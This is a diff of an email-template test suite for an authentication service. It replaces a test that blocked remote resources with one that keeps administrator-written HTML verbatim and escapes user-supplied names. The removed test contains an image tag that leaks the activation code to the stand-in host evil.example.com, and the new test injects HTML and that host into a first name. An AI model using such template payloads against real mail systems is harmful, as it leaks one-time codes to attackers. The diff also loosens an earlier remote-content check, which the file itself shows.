@@ -148,13 +148,35 @@ export function testWords(world: MailWorld): void {
     expect((await world.sink.next()).raw).not.toContain('evil.example.com');
   });
 
-  test('nothing is loaded from elsewhere, but for the brand’s logo', async () => {
-    const html = '<p>{{ code }}<img src="https://evil.example.com/p?{{ code }}"><i style="background:url(x)">x</i></p>';
-    await template('account_activation', { html });
-    expect((await send({ eventType: 'user.human.initialization.code.added' })).body.data.templateSource).toBe('panel');
+  test('a template stays as its administrator wrote it, and the preview is what is sent', async () => {
+    const html = [
+      '<p>Zkopírujte url (viz níže). {{ code }}</p>',
+      '<table background="#fff"><tr><td style="background:url(https://cdn.example.org/a.png)">background = x</td></tr></table>',
+      '<img src="https://cdn.example.org/logo.png" alt="a > b"><a href="https://help.example.org/?a=1&amp;b=2">Help</a>',
+      '<style>@import url("https://cdn.example.org/a.css");</style><p>1 < 2 {{ firstName }}</p>',
+    ].join('\n');
+    const root = await Rest.as(world.usher, 'admin@example.com');
+    const templates = (await root.get('/api/applications/auth/templates')).body.data as {
+      id: number;
+      key: string;
+      locale: string;
+    }[];
+    const { id } = templates.find(({ key, locale }) => key === 'account_activation' && locale === 'en') ?? { id: 0 };
+    expect((await root.put(`/api/applications/auth/templates/${id}`, { html, text: null })).status).toBe(200);
+    const sent = await send({
+      eventType: 'user.human.initialization.code.added',
+      args: { firstName: '<b> https://evil.example.com/ & co' },
+    });
+    expect(sent.body.data.templateSource).toBe('panel');
     const mail = await world.sink.next();
-    expect(mail.parsed.html).not.toContain('evil');
-    expect(mail.parsed.html).not.toContain('url(');
+    const written = html.replace('{{ code }}', sent.code).replace('{{ firstName }}', '&lt;b&gt;  &amp; co');
+    expect((mail.parsed.html || '').replaceAll('\r\n', '\n')).toContain(written);
+
+    const payload = { code: sent.code, firstName: '<b>  & co' };
+    const preview = await root.post(`/api/applications/auth/templates/${id}/preview`, { payload, locale: 'en' });
+    expect(preview.body.data.html).toBe(written);
+    expect((mail.parsed.text ?? '').trim()).toContain(preview.body.data.text.trim());
+    expect(mail.parsed.subject).toBe(preview.body.data.subject);
   });
 
   test('the language: of the profile, else of the registration, which the profile then keeps, else English', async () => {
